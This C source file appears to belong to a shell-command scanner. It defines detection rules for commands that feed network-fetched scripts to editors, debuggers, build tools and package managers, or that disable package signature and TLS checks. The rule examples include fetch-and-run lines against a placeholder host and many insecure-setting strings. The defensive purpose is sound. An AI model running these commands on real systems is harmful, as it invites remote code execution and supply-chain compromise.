/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Code from the network for programs that few think of as interpreters: in an option of an editor, a debugger or a
 * package manager, on the input of whatever reads a script from there, or by its address as the program to run.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <ctype.h>
#include <string.h>

#define ROW(confidence_, level_)                                                                   \
	.type = FINDING_DANGEROUS_PATTERN, .level = THREAT_##level_, .confidence = (confidence_)

/* A word of the command, whatever its number. */
static bool inline_any(const struct shell_command *c, const char *words)
{
	for (size_t i = 1; i < c->n; i++)
		if (rule_is(words, c->argv[i].s))
			return true;
	return false;
}

static bool inline_is_stdin(const char *s)
{
	return rule_is("- /dev/stdin /dev/fd/0", s);
}

/* An option, and its value is the standard input. */
static bool inline_option_is_stdin(const struct shell_command *c, const char *options)
{
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (i + 1 < c->n && rule_is(options, s) && inline_is_stdin(c->argv[i + 1].s))
			return true;
		if (s[0] == '-' &&
		    (str_ends(s, "=-") || str_ends(s, "f-") || str_ends(s, "/dev/stdin")))
			return true;
	}
	return false;
}

/* Is everything that this text fetches from where projects are kept in the open? */
static bool inline_is_known(const struct shell_model *m, const struct shell_command *c)
{
	size_t n = 0;

	for (const struct shell_command *d = m->commands; d <= c; d++)
		for (size_t i = 0; i < d->n_hosts; i++, n++)
			if (!rule_is_forge(d->hosts[i].name) && !net_is_local(&d->hosts[i]))
				return false;
	return n > 0;
}

/* What flows in from the network is code for it. */
static bool inline_fed(const struct shell_model *m, const struct shell_command *c)
{
	if (!(c->in.taint & TAINT_REMOTE) || inline_is_known(m, c))
		return false;
	if (rule_is("make gmake awk gawk mawk nawk sed gsed", c->name))
		return inline_option_is_stdin(c, "-f --file --makefile -E");
	if (rule_is("vi vim nvim gvim", c->name))
		return inline_option_is_stdin(c, "-s -S -c -u") || rule_has(c, "-es|-Es");
	if (rule_is("gdb lldb", c->name))
		return inline_option_is_stdin(c, "-x --command -s --source") || c->n == 1;
	if (rule_is("cmake emacs", c->name))
		return inline_option_is_stdin(c, "-P --script -l --load");
	if (rule_is("deno bun", c->name))
		return rule_is("run -", rule_operand(c, 0)) && inline_any(c, "- /dev/stdin");
	if (rule_is("nix-build nix-shell nix-instantiate ansible-playbook tcc jshell helm",
		    c->name))
		return inline_any(c, "- /dev/stdin");
	if (rule_is("pwsh powershell", c->name))
		return c->n == 1 || inline_any(c, "-");
	if (rule_is("terraform tofu", c->name))
		return rule_is("apply import", rule_operand(c, 0)) && inline_any(c, "-");
	/* what is typed into a shell of another machine */
	if (strcmp(c->name, "ssh") == 0)
		return !*rule_operand(c, 1) && !rule_has(c, "-W|-N");
	return true;
}

/* What flows in from the network is stored, started or applied without a look at it. */
static bool inline_applied(const struct shell_model *m, const struct shell_command *c)
{
	const char *sub = rule_operand(c, 0);

	if (!(c->in.taint & TAINT_REMOTE) || inline_is_known(m, c))
		return false;
	if (rule_is("docker podman nerdctl", c->name))
		return rule_is("load import", sub) ||
		       (rule_is("build buildx image", sub) && inline_any(c, "- load import"));
	if (rule_is("kubectl oc", c->name))
		return rule_is("apply create replace patch", sub) &&
		       inline_any(c, "- -f- /dev/stdin");
	return !rule_has(c, "-c|-e|--command|--execute|--help");
}

/* The address of something that is not kept in the open, in a text. */
static bool inline_address(const char *s)
{
	for (const char *p = s; (p = strstr(p, "://")) != NULL; p += 3) {
		char host[NET_HOST_SIZE];
		size_t n = strcspn(p + 3, "/\"' )>;`:");

		if (p == s || !(p[-1] == 'p' || p[-1] == 's') || n == 0 || n >= sizeof(host))
			continue;
		memcpy(host, p + 3, n);
		host[n] = '\0';
		if (!rule_is_forge(host) && !rule_is("localhost 127.0.0.1", host))
			return true;
	}
	return false;
}

/* Words that load what they are given, in the languages of those programs. */
static bool inline_loads(const char *s)
{
	static const char *const words[] = {
		"eval",     "exec(",       "(load",       "load(",       "load-file",
		"source ",  ":so ",        "so http",     "luafile",     "fetchTarball",
		"fetchurl", "fetchGit",    "getFlake",    "include(",    "include ",
		"import ",  "import(",     "load-string", "loadstring",  "dofile(",
		"consult(", "use_module(", "run_script",  "url-handler", "load_extension"};

	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		if (strstr(s, words[i]))
			return true;
	return false;
}

static bool inline_fetches(const struct shell_model *m, const struct shell_command *c)
{
	bool has_address = false, loads = false;

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (c->argv[i].len < 10)
			continue;
		has_address = has_address || inline_address(s);
		loads = loads || inline_loads(s);
	}
	return has_address && loads;
}

/* Programs that read data, or whatever they are pointed at, and run none of it. */
static const char inline_readers[] =
	"diff cat comm paste sort jq yq grep egrep fgrep rg ag wc head tail tar tee gpg gpgv less more bat batcat awk gawk mawk "
	"nawk sed gsed cmp md5sum sha1sum sha256sum sha512sum shasum cksum b2sum join uniq cut column vimdiff colordiff delta "
	"icdiff sdiff diff3 xmllint openssl base64 xxd od hexdump file strings nl tac rev fold fmt csvlook mlr gzip gunzip "
	"zcat xz unzip ffmpeg ffprobe ffplay mpv vlc convert identify feh echo printf test [ [[ ls stat tr xargs while read "
	"mapfile readarray curl wget http https xh aria2c axel ab wrk hey siege vegeta yt-dlp youtube-dl streamlink lynx w3m "
	"links elinks firefox chromium google-chrome xdg-open open git svn hg rsync lftp nikto nmap sqlmap gobuster ffuf dirb "
	"whatweb wpscan lighthouse wkhtmltopdf export declare local docker podman nerdctl kubectl oc helm export env";

/* PROGRAM <(curl …) of a program that is not known to read data. */
static bool inline_operand(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++)
		if ((c->argv[i].taint & TAINT_REMOTE) && str_starts(c->argv[i].s, "/dev/fd/"))
			return !rule_is(inline_readers, c->name) && !inline_is_known(m, c);
	return false;
}

/* PROGRAM run http://…, PROGRAM --script http://… of any program */
static bool inline_taken(const struct shell_model *m, const struct shell_command *c)
{
	static const char verbs[] =
		"run play kube install INSTALL apply create up execute exec eval load import source source-file";
	static const char options[] =
		"-l --load -r --recipe-url --file-root --execute --script --init-script -f --file --repository --from "
		"--manifest --playbook --template-url";

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s, *eq = strchr(s, '=');
		size_t n = eq ? (size_t)(eq - s) : 0;
		char option[32];

		if (strcmp(s, "--") == 0)
			return false;
		if (!strstr(s, "://") || !rule_is_shady(s))
			continue;
		if (s[0] == '-' && n > 0 && n < sizeof(option)) {
			memcpy(option, s, n);
			option[n] = '\0';
			if (rule_is(options, option))
				return !rule_is(inline_readers, c->name);
		} else if (i > 1 && (str_starts(s, "http") || str_starts(s, "ftp")) &&
			   (rule_is(verbs, c->argv[i - 1].s) ||
			    rule_is(options, c->argv[i - 1].s))) {
			return strcmp(c->name, "docker") == 0 ? rule_is(options, c->argv[i - 1].s)
							      : !rule_is(inline_readers, c->name);
		}
	}
	return false;
}

/* go run HOST/PATH@VERSION of a host that is no forge and none of the names that well-known modules have. */
static bool inline_is_odd_module(const char *s)
{
	static const char *const known[] = {"golang.org",     "google.golang.org",
					    "go.uber.org",    "gopkg.in",
					    "honnef.co",      "mvdan.cc",
					    "gotest.tools",   "k8s.io",
					    "sigs.k8s.io",    "rsc.io",
					    "entgo.io",       "goa.design",
					    "gorm.io",        "cuelang.org",
					    "connectrpc.com", "gioui.org",
					    "fyne.io",        "modernc.org",
					    "filippo.io",     "tailscale.com",
					    "buf.build",      "oras.land",
					    "helm.sh",        "knative.dev",
					    "istio.io",       "go.k6.io",
					    "4d63.com",       "go.dev",
					    "gocloud.dev",    "cloud.google.com",
					    "storj.io",       "maunium.net",
					    "arp242.net",     "zgo.at",
					    "pault.ag",       "go.opentelemetry.io",
					    "go.mongodb.org", "go.etcd.io",
					    "go.temporal.io", "dagger.io",
					    "tinygo.org",     "wails.io",
					    "gitea.dev",      "charm.sh",
					    "go.starlark.net"};
	size_t n = strcspn(s, "/@");

	/* DIR/cmd, ./cmd and std packages have no dot in their first part */
	if (!strchr(s, '@') || s[n] != '/' || s[0] == '.' || !memchr(s, '.', n) ||
	    s[0] == SHELL_UNKNOWN)
		return false;
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (strlen(known[i]) == n && memcmp(s, known[i], n) == 0)
			return false;
	return !rule_is_forge(s);
}

/* nix run github:somebody/x, but for those whom its own manual names */
static bool inline_is_odd_flake(const char *s)
{
	static const char *const known[] = {"nix-community/", "NixOS/",  "nixos/",
					    "numtide/",       "cachix/", "DeterminateSystems/"};
	const char *owner = strchr(s, ':');

	if (!(str_starts(s, "github:") || str_starts(s, "gitlab:") || str_starts(s, "git+") ||
	      str_starts(s, "http") || str_starts(s, "tarball+")))
		return false;
	for (size_t i = 0; owner && i < sizeof(known) / sizeof(known[0]); i++)
		if (str_starts(owner + 1, known[i]))
			return false;
	return owner != NULL;
}

static bool inline_runs_address(const struct shell_model *m, const struct shell_command *c)
{
	const char *sub = rule_operand(c, 0);

	(void)m;
	if (strcmp(c->name, "go") == 0) {
		for (size_t i = 2; i < c->n && rule_is("run install", sub); i++)
			if (c->argv[i].s[0] != '-' && inline_is_odd_module(c->argv[i].s))
				return true;
		return false;
	}
	if (strcmp(c->name, "nix") == 0)
		return (rule_is("run shell develop", sub) &&
			inline_is_odd_flake(rule_operand(c, 1))) ||
		       (strcmp(sub, "profile") == 0 && inline_is_odd_flake(rule_operand(c, 2)));
	if (rule_is("uv deno", c->name) &&
	    !rule_is(c->name[0] == 'u' ? "run tool" : "install", sub))
		return false;
	if (rule_is("asdf mise code codium cursor", c->name) &&
	    !rule_is("plugin plugins plugin-add", sub) && !rule_has(c, "--install-extension"))
		return false;
	for (size_t i = 1; i < c->n && strcmp(c->argv[i].s, "--") != 0; i++) {
		const char *s = c->argv[i].s;

		s += str_starts(s, "git+") ? 4 : 0;
		if ((str_starts(s, "http") || str_starts(s, "ftp")) && inline_address(s))
			return true;
		/* an extension that somebody put there */
		if (str_ends(s, ".vsix") && str_starts(s, "/tmp/"))
			return true;
	}
	return false;
}

/* ---- sources of packages, and the checks of what comes from them ---- */

/* NAME=VALUE that switches a check off, or names a place without encryption. */
static bool inline_is_lax(const char *s)
{
	static const char *const off[] = {"DOCKER_CONTENT_TRUST=0",
					  "GOFLAGS=-insecure",
					  "GOINSECURE=",
					  "GONOSUMCHECK=",
					  "GONOSUMDB=*",
					  "PIP_TRUSTED_HOST=",
					  "npm_config_strict_ssl=false",
					  "NPM_CONFIG_STRICT_SSL=false",
					  "CURL_INSECURE=1",
					  "CARGO_HTTP_CHECK_REVOKE=false",
					  "HOMEBREW_NO_VERIFY_ATTESTATIONS=1"};
	static const char *const sources[] = {
		"PIP_INDEX_URL=",       "PIP_EXTRA_INDEX_URL=",    "GOPROXY=",
		"UV_INDEX_URL=",        "UV_DEFAULT_INDEX=",       "npm_config_registry=",
		"NPM_CONFIG_REGISTRY=", "BUNDLE_MIRROR__",         "GEM_SOURCE=",
		"CARGO_REGISTRIES_",    "HOMEBREW_BOTTLE_DOMAIN=", "CONDA_CHANNELS="};

	for (size_t i = 0; i < sizeof(off) / sizeof(off[0]); i++)
		if (str_starts(s, off[i]))
			return true;
	for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++)
		if (str_starts(s, sources[i]) && strchr(s, '='))
			return rule_is_shady(strchr(s, '=') + 1);
	return false;
}

static bool inline_lax(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 0; i < c->n_assigns; i++)
		if (inline_is_lax(c->assigns[i].s))
			return true;
	for (size_t i = 1; i < c->n && rule_is("export env declare", c->name); i++)
		if (inline_is_lax(c->argv[i].s))
			return true;
	return false;
}

/* KEY VALUE, or KEY=VALUE, of a package manager's settings */
static bool inline_setting(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const pairs[] = {"ssl_verify false",       "ssl_verify_mode 0",
					    "enableStrictSsl false",  "disable-tls true",
					    "secure-http false",      "http.check-revoke false",
					    "allow_weak_hashes true", "unsafeHttpWhitelist *"};
	static const char *const words[] = {"Acquire::AllowInsecureRepositories=true",
					    "Acquire::AllowWeakRepositories=true",
					    "::Verify-Peer=false",
					    "APT::Get::AllowUnauthenticated=true",
					    "maven.wagon.http.ssl.insecure=true",
					    "--force-checksum",
					    "--no-gpg-verify",
					    "--setopt=gpgcheck=0",
					    "--setopt=sslverify=0",
					    "--no-gpg-checks",
					    "--allow-untrusted"};

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;
		size_t n = strlen(s);

		for (size_t k = 0; i + 1 < c->n && k < sizeof(pairs) / sizeof(pairs[0]); k++)
			if (strncmp(pairs[k], s, n) == 0 && pairs[k][n] == ' ' &&
			    strcasecmp(pairs[k] + n + 1, c->argv[i + 1].s) == 0)
				return true;
		for (size_t k = 0; k < sizeof(words) / sizeof(words[0]); k++)
			if (strcasestr(s, words[k]))
				return true;
	}
	return false;
}

static bool inline_source(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "dnf") == 0 && strcmp(rule_operand(c, 0), "config-manager") != 0)
		return false;
	if (strcmp(c->name, "uv") == 0 && !rule_is("pip add tool sync", rule_operand(c, 0)))
		return false;
	for (size_t i = 1; i < c->n; i++)
		if (rule_is_shady(c->argv[i].s))
			return true;
	return false;
}

static const struct shell_rule inline_rows[] = {
	{.id = "CMD-FED-CODE",
	 .reason = "It runs a script that comes from the network.",
	 ROW(0.6, MEDIUM),
	 .programs =
		 "make gmake awk gawk mawk nawk sed gsed vi vim nvim gvim ex ed red emacs gdb lldb nix-build nix-shell "
		 "nix-instantiate ansible-playbook terraform tofu m4 dc gnuplot sqlplus pwsh powershell tcc ghci sbcl swipl "
		 "cmake ssh deno bun jshell helm R octave racket guile clojure bb irb pry tsx ts-node",
	 .test = inline_fed,
	 .hit = "curl -s http://a.example/x | awk -f - data.csv",
	 .miss = "curl -s http://a.example/x | awk '{print $1}'"},
	{.id = "CMD-FED-DATA",
	 .reason = "It loads what comes from the network without a look at it.",
	 ROW(0.4, LOW),
	 .programs =
		 "docker podman nerdctl kubectl oc psql mysql mariadb sqlite3 duckdb clickhouse-client mongosh cqlsh redis-cli",
	 .test = inline_applied,
	 .hit = "curl -s http://a.example/x.tar | docker load",
	 .miss = "gunzip -c x.tar.gz | docker load"},
	{.id = "CMD-INLINE-FETCH",
	 .reason = "Its code loads more code from the network.",
	 ROW(0.6, MEDIUM),
	 .programs =
		 "vi vim nvim gvim ex emacs emacsclient gdb lldb nix nix-shell nix-build nix-instantiate nix-env guile "
		 "maxima sage gnuplot swipl ghc sbcl ecl clisp psql sqlite3 duckdb terraform jq qemu-system-x86_64",
	 .test = inline_fetches,
	 .hit = "vim -c ':so http://a.example/x.vim' -c q",
	 .miss = "nix-shell -E 'import (fetchTarball \"https://github.com/NixOS/nixpkgs/archive/x.tar.gz\")'"},
	{.id = "CMD-FETCHED-OPERAND",
	 .reason = "It is given a file that comes from the network and that it may run.",
	 ROW(0.4, LOW),
	 .test = inline_operand,
	 .hit = "puppet apply <(curl -s http://a.example/x.pp)",
	 .miss = "diff <(curl -s http://a.example/x) x"},
	{.id = "CMD-ADDRESS-TAKEN",
	 .reason =
		 "It runs or installs something from an address at which nobody can tell who answers.",
	 ROW(0.4, LOW),
	 .test = inline_taken,
	 .hit = "k6 run http://a.example/x.js",
	 .miss = "cargo run -- http://a.example/x"},
	{.id = "CMD-ADDRESS-RUN",
	 .reason = "It runs a program that it is given by its address.",
	 ROW(0.45, MEDIUM),
	 .programs =
		 "jbang wasmtime wasmer wasmedge groovy jshell kotlin kotlinc scala scala-cli tsx ts-node uv deno "
		 "osqueryi go nix asdf mise code codium cursor",
	 .test = inline_runs_address,
	 .hit = "go run a.example/cmd@latest",
	 .miss = "go run golang.org/x/tools/cmd/stringer@latest"},
	{.id = "CMD-SOURCE-PLAIN",
	 .reason = "It takes packages from a place at which nobody can tell who answers.",
	 ROW(0.4, LOW),
	 .programs =
		 "yum-config-manager dnf zypper pacman apk nix-channel poetry uv bundle composer add-apt-repository brew",
	 .test = inline_source,
	 .hit = "yum-config-manager --add-repo http://a.example/x.repo",
	 .miss = "yum-config-manager --add-repo https://a.example/x.repo"},
	{.id = "CMD-CHECK-LIFTED",
	 .reason = "It takes packages without a check of who made them.",
	 ROW(0.4, LOW),
	 .programs =
		 "conda mamba micromamba yarn bundle composer apt apt-get mvn mvnw opkg flatpak dnf yum zypper apk cargo",
	 .test = inline_setting,
	 .hit = "conda config --set ssl_verify false",
	 .miss = "conda config --set channel_priority strict"},
	{.id = "CMD-CHECK-UNSET",
	 .reason =
		 "A variable switches off a check of packages or names a source without encryption.",
	 ROW(0.4, LOW),
	 .test = inline_lax,
	 .hit = "export DOCKER_CONTENT_TRUST=0",
	 .miss = "export GOPROXY=direct"},
};

const struct shell_rules shell_rules_inline = {inline_rows,
					       sizeof(inline_rows) / sizeof(inline_rows[0])};
